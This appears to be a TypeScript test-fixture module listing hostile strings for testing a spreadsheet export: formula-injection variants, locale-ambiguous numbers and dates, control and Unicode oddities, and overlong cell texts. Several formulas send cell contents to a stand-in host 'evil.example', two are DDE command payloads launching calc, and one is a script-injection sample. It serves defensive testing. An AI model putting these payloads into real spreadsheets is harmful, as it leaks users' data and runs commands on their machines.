/** What strangers write when they are paid per view: texts that a spreadsheet is likely to run, misread, cut or lose. */
import naughty from 'big-list-of-naughty-strings';

const COMMANDS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '=+', '+-@='];
const LEADS = ['', ' ', '   ', '\t', '\n', '\r', '\r\n', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u202e'];
const APOSTROPHES = ["'", "''", "' ", '’', '＇', '`'];

/** Every way to begin a formula, before something that would run. */
export const FORMULAS: readonly string[] = [
  ...COMMANDS.flatMap((sign) => [...LEADS, ...APOSTROPHES].map((lead) => `${lead}${sign}SUM(1,1)`)),
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '=importxml(CONCATENATE("https://evil.example/",A2:A9),"//a")',
  '=HYPERLINK("https://evil.example","Your payout")',
  '=IMAGE("https://evil.example/pixel.png?"&ENCODEURL(A2))',
  '=IMPORTDATA("https://evil.example")',
  '=IMPORTRANGE("1evil","A1")',
  '＝IMPORTXML("https://evil.example","//a")',
  '+IMPORTXML("https://evil.example","//a")',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=CAMPAIGN_CLIPS("x")',
  '=1+1',
  '={1,2;3,4}',
  '==1',
  '+1',
  '-1',
  '=A1',
  '+A1',
  '-A1',
];

/** What is no number, date or error, but looks like one, also to a German or French reader. */
export const DISGUISED: readonly string[] = [
  ...['007', '00', '-0', '0.10', '.5', '1.', '+5', '-5', '1e5', '1E-2', '0x1F', '1_000', '1,000', '1.000'],
  ...['1,5', '1.234.567,89', '1 234,5', '1\u00a0234', '１２３', '٣', '½', '(5)', '1,23,456'],
  ...['1234567890123456789', '12345678901234567890123', '9007199254740993', '0.1234567890123456789'],
  ...['50%', '50 %', '%5', '$5', '-$5', '5$', '€5', '5 €', '5,00 €', '£5', '¥5', 'USD 5', '5 kr'],
  ...[
    '1-2',
    '1/2',
    '1.2.',
    '01.02.2026',
    '1.2.26',
    '2026-01-02',
    '2026/1/2',
    '1 Jan',
    'Jan 2',
    '2 January 2024',
  ],
  ...['12:30', '12:30:00', '3 PM', '2026-01-02T03:04:05Z', '2026-01-02 03:04', 'tomorrow', '1. Mai', 'Mär 3'],
  ...['TRUE', 'true', 'FALSE', 'WAHR', 'VRAI', 'NaN', 'Infinity', '-Infinity', 'null', 'undefined'],
  ...['#N/A', '#REF!', '#NAME?', '#ERROR!', '#DIV/0!', 'Loading...', '#SPILL!'],
];

const C0 = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code));

export const ODD_CHARACTERS: readonly string[] = [
  ...C0.map((control) => `a${control}b`),
  ...C0.map((control) => `${control}=SUM(1,1)`),
  C0.join(''),
  'delete\u007f and C1\u0085\u009b',
  'line\u2028and paragraph\u2029',
  'zero\u200bwidth\u200d\u2060',
  '\u202eright to left override',
  '\u2066isolated\u2069 \u202aembedded\u202c \u200frtl',
  'مرحبا =SUM(1,1)',
  'half \ud83d pair',
  'half \ude00 pair',
  '\ud83d',
  '\ude00\ud83d',
  '=SUM(1,1)\ud83d',
  '\ufffd\uffff\ufffe',
  'e\u0301 and \u00e9',
  'Z\u0351\u0363\u0345a\u034el\u0338g\u0328o',
  '__proto__',
  'constructor',
  ' ',
  '   ',
  '\t',
  '\n',
  ' spaces around ',
  'two\nlines\nand a tab\there',
  'return\r\nand newline',
  '"quoted", with; separators\t|',
  '{"json":true}',
  '[1,2]',
  '<script>alert(1)</script>',
];

const CELL = 50_000;

export const LONG_TEXTS: readonly string[] = [
  'x'.repeat(60_000),
  `=${'1+'.repeat(30_000)}1`,
  // The cut, or the limit, in the middle of a pair.
  '🎬'.repeat(30_000),
  `a${'🎬'.repeat(30_000)}`,
  // As long as a cell may be.
  'y'.repeat(CELL),
  'z'.repeat(CELL + 1),
  `=${'y'.repeat(CELL - 2)}`,
  `=${'y'.repeat(CELL - 1)}`,
  `+${'y'.repeat(CELL)}`,
  `'${'y'.repeat(CELL - 1)}`,
  `${'\u0001'.repeat(20)}${'y'.repeat(CELL - 10)}`,
  ' '.repeat(CELL + 5),
];

function distinct(texts: readonly string[]): readonly string[] {
  return Array.from(new Set(texts));
}

/** All of them but the long ones, each once. */
export const SHORT_TEXTS: readonly string[] = distinct([
  ...FORMULAS,
  ...DISGUISED,
  ...ODD_CHARACTERS,
  ...Object.values(naughty),
]);

const SHARE = 8;

/** A share of them, another for each number: all of them together. */
export function shareOf(number: number): readonly string[] {
  const mine = (share: number) => (_: string, index: number) => index % share === number % share;
  return [...SHORT_TEXTS.filter(mine(SHARE)), ...LONG_TEXTS.filter(mine(LONG_TEXTS.length))];
}
